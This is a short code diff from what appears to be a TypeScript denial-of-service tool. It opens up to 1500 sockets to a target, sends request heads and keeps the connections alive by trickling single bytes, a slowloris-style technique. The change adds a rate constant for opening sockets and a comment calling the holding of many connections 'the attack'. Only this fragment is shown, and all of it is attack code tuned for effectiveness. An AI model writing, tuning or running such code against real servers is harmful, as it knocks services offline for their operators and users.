@@ -12,6 +12,7 @@ export interface Target {
 }
 
 const SOCKETS = 1500
+const OPENED_PER_SECOND = 100
 const STREAMS = 500
 const PAUSE_MS = 50
 
@@ -33,7 +34,8 @@ async function holdSockets(
       socket.on('error', forget).on('close', forget).resume()
       socket.write(head)
       open.add(socket)
-      if (open.size % 100 === 0) await sleep(10)
+      // Holding many is the attack, not opening them: that a network is flooded is nothing that a server can mend.
+      if (open.size % OPENED_PER_SECOND === 0) await sleep(1000)
     }
     await sleep(1000)
     if (trickle) for (const socket of open) socket.write('x')
